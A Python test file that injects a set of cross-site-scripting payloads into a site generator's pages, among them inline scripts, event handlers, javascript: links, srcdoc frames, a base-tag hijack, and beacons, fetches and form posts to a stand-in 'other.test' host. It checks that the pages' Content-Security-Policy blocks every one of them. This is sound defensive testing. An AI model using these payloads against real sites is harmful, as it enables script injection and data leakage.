"""What a page's policy refuses by itself, should a text ever end as markup, or a script get in.

A page of each template is opened with attacks written into it. Without its policy all of them
succeed: that is looked at, too.
"""

import re
from urllib.parse import urlsplit

import pytest

from browser.hostile import brand_of, hostile_library
from browser.sites import TODAY, laid_out, rehearse, small_library, whole_site_of, write_site
from stepstop.edition import edition_for, look_files
from stepstop.pages.booklet import booklet
from stepstop.pages.changes import changes_page, read_told
from stepstop.pages.rendering import Renderer
from stepstop.site import Forms, build_site

HOME, OTHER = "http://site.test", "http://other.test"
POLICY = re.compile(rb'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')

MARKUP = f"""
<script>got.push('script')</script>
<script src="{OTHER}/script.js"></script>
<script type="module">got.push('module')</script>
<img src="data:," onerror="got.push('handler')">
<svg><script>got.push('drawn script')</script></svg>
<svg><a id="try-drawn" href="javascript:got.push('drawn link')"></a></svg>
<a id="try-link" href="javascript:void got.push('link')">x</a>
<button id="try-button" onclick="got.push('button')">x</button>
<p id="try-styled" style="position: fixed">x</p>
<style>#try-sheet {{ position: fixed }}</style><p id="try-sheet">x</p>
<link rel="stylesheet" href="{OTHER}/sheet.css">
<link rel="preload" as="image" href="{OTHER}/preload.png">
<link rel="prefetch" href="{OTHER}/prefetch.html">
<link rel="modulepreload" href="{OTHER}/modulepreload.js">
<img src="{OTHER}/image.png" alt="">
<img srcset="{OTHER}/set.png 1x" alt="">
<svg><image href="{OTHER}/drawn.png"></image></svg>
<video src="{OTHER}/video.mp4" poster="{OTHER}/poster.png" preload="auto"></video>
<audio src="{OTHER}/audio.mp3" preload="auto"></audio>
<iframe src="{OTHER}/frame.html"></iframe>
<iframe srcdoc="<script>parent.got.push('framed script')</script>"></iframe>
<object data="{OTHER}/object.html"></object>
<embed src="{OTHER}/embed.html">
<form id="try-form" method="post" action="{OTHER}/form" target="sink"><input name="a"></form>
<form id="try-own" method="post" action="{HOME}/own-form" target="drain"></form>
<iframe name="sink"></iframe><iframe name="drain"></iframe>
<a id="try-ping" ping="{OTHER}/ping" href="{HOME}/page.html#on">x</a>
<base href="{OTHER}/base/">
"""
"""Each of them is an attack."""

SCRIPT = f"""async () => {{
  const asks = {{
    fetch: () => fetch('{OTHER}/fetch', {{ mode: 'no-cors' }}),
    beacon: () => navigator.sendBeacon('{OTHER}/beacon', 'x'),
    request: () => new Promise((done) => {{
      const request = new XMLHttpRequest();
      request.onloadend = done;
      request.open('GET', '{OTHER}/request');
      request.send();
    }}),
    events: () => {{ new EventSource('{OTHER}/events'); }},
    image: () => {{ new Image().src = '{OTHER}/made.png'; }},
    markup: () => {{
      const box = document.createElement('div');
      box.innerHTML = '<img src="data:," onerror="got.push(1)">';
      got.push('markup');
    }},
    written: () => {{ document.createElement('script').text = '1'; got.push('written'); }},
    address: () => {{
      document.createElement('script').src = '{OTHER}/a.js';
      got.push('address');
    }},
    handler: () => {{
      document.body.setAttribute('onfocus', '1');
      got.push('made handler');
    }},
    frame: () => {{
      document.createElement('iframe').srcdoc = '<p>';
      got.push('made frame');
    }},
    text: () => {{ document.createRange().createContextualFragment('<p>'); got.push('range'); }},
    worker: () => new Promise((done) => {{
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
      worker.onmessage = () => done(got.push('worker'));
      worker.onerror = done;
    }}),
  }};
  await new Promise((done) => setTimeout(done));
  for (const ask of Object.values(asks)) {{
    try {{ await Promise.race([ask(), new Promise((done) => setTimeout(done, 500))]); }} catch {{}}
  }}
  // What this very script does is let through; what a timer is given is held to the policy.
  await new Promise((done) => {{
    setTimeout(() => {{
      try {{ (0, eval)('got.push("eval")'); }} catch {{}}
      try {{ setTimeout('got.push("timer")', 0); }} catch {{}}
      setTimeout(done, 20);
    }});
  }});
  for (const id of ['link', 'button', 'ping']) document.getElementById('try-' + id).click();
  document.getElementById('try-drawn').dispatchEvent(new MouseEvent('click', {{ bubbles: true }}));
  for (const id of ['form', 'own']) document.getElementById('try-' + id).submit();
  for (const id of ['styled', 'sheet']) {{
    if (getComputedStyle(document.getElementById('try-' + id)).position === 'fixed') got.push(id);
  }}
  if (!document.baseURI.startsWith('{HOME}')) got.push('base');
}}"""
"""What a script would do that got in all the same."""

DONE = {
    *("script", "module", "handler", "drawn script", "drawn link", "link", "button", "styled"),
    *("sheet", "framed script", "markup", "written", "address", "made handler", "made frame"),
    *("range", "worker", "eval", "timer", "base"),
}
ASKED = {
    *("/script.js", "/sheet.css", "/preload.png", "/prefetch.html", "/modulepreload.js"),
    *("/image.png", "/set.png", "/drawn.png", "/video.mp4", "/poster.png", "/audio.mp3"),
    *("/frame.html", "/object.html", "/embed.html", "/form", "/own-form", "/ping", "/fetch"),
    *("/beacon", "/request", "/events", "/made.png"),
}
"""What each attack does where nothing stands in its way."""


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    """(template, for whom) -> a page that was made of it."""
    target = tmp_path_factory.mktemp("policy")
    hostile = hostile_library(target)  # It uses what a page of each template needs.
    course = laid_out(rehearse(hostile.trees))
    plain = edition_for(course, hostile.trees, today=TODAY, environ={})
    brand = brand_of(hostile.company)
    company = edition_for(course, hostile.trees, today=TODAY, brand=brand, environ={})
    earlier = write_site(whole_site_of(small_library(target / "other")), target / "earlier")
    templates, render = {}, Renderer.render
    found = {}

    def noted(self, template, view):
        page = render(self, template, view)
        templates.setdefault(template, page)
        return page

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(Renderer, "render", noted)
        Forms([(course, plain)])
        booklet(course, plain, paper="letter")
        changes_page(course, plain, read_told(earlier, "en"))
    found |= {(template, "all"): page for template, page in templates.items()}
    site = build_site(course, company)
    for name in ("index.html", "hot/quiet.html", "cold/pocket.html"):
        found[name, "company"] = site[name]
    found["booklet.html", "company"] = booklet(course, company, paper="letter")
    return found


def test_a_page_of_each_template_is_there(pages):
    whole = {name for name, path in look_files(()).items() if is_page(name, path)}
    assert {template for template, kind in pages if kind == "all"} == whole


def is_page(name, path):
    """Whether a file is a template of a whole page, not of pieces."""
    text = path.read_text("utf-8") if name.endswith(".html") else ""
    return name != "frame.html" and ("<!DOCTYPE html>" in text or '{% extends "frame.html"' in text)


@pytest.fixture(scope="module")
def host(browser):
    """A tab, and what it asks any host for."""
    context = browser.new_context()
    context.add_init_script(
        "window.got = []; window.refused = [];"
        "addEventListener('securitypolicyviolation', (event) =>"
        " refused.push(event.effectiveDirective))"
    )
    tab, served, asked = context.new_page(), {}, []

    def answer(route):
        parts = urlsplit(route.request.url)
        if route.request.url == f"{HOME}/page.html":
            return route.fulfill(body=served["page"], content_type="text/html")
        asked.append((f"{parts.scheme}://{parts.netloc}", parts.path))
        return route.fulfill(body="", headers={"Access-Control-Allow-Origin": "*"})

    context.route("**/*", answer)

    def opened(page):
        served["page"] = page
        tab.goto(f"{HOME}/page.html", wait_until="domcontentloaded")
        asked.clear()
        return tab

    yield tab, served, asked
    context.close()


def attacked(host, page):
    """(what was done, what was asked for, what was refused) with all attacks in a page."""
    tab, served, asked = host
    # What leads on by itself would leave the attacks behind.
    page = re.sub(rb'<meta http-equiv="refresh"[^>]*>', b"", page)
    assert page.count(b"</body>") == 1
    served["page"] = page.replace(b"</body>", MARKUP.encode() + b"</body>")
    asked.clear()
    tab.goto(f"{HOME}/page.html")
    tab.evaluate(SCRIPT)
    tab.wait_for_timeout(100)
    done = set(tab.evaluate("got.map(String)")) - {"1"}
    paths = {path for at, path in asked if at == OTHER or path == "/own-form"}
    return done, paths, set(tab.evaluate("refused"))


def test_without_a_policy_each_attack_succeeds(host, pages):
    page, count = POLICY.subn(b"", pages["start.html", "all"])
    assert count == 1
    done, asked, refused = attacked(host, page)
    assert (done, asked, refused) == (DONE, ASKED, set())


REFUSED = {
    *("script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr"),
    *("img-src", "media-src", "frame-src", "object-src", "connect-src", "form-action", "base-uri"),
}
"""Rules that the attacks run into, whatever the page."""


def test_a_page_of_no_template_lets_an_attack_through(host, pages):
    for name, page in pages.items():
        done, asked, refused = attacked(host, page)
        assert (name, done, asked) == (name, set(), set())
        assert refused >= REFUSED, name


def test_policies_name_no_host_and_nothing_unsafe(pages):
    for name, page in pages.items():
        [policy] = POLICY.findall(page)
        # Two slashes may stand in a hash by chance.
        said = re.sub(rb"sha256-[\w+/]+=*", b"", policy)
        assert not re.search(rb"unsafe|https?:|//|\*|strict-dynamic", said), name
        assert policy.startswith(b"default-src 'none'; "), name
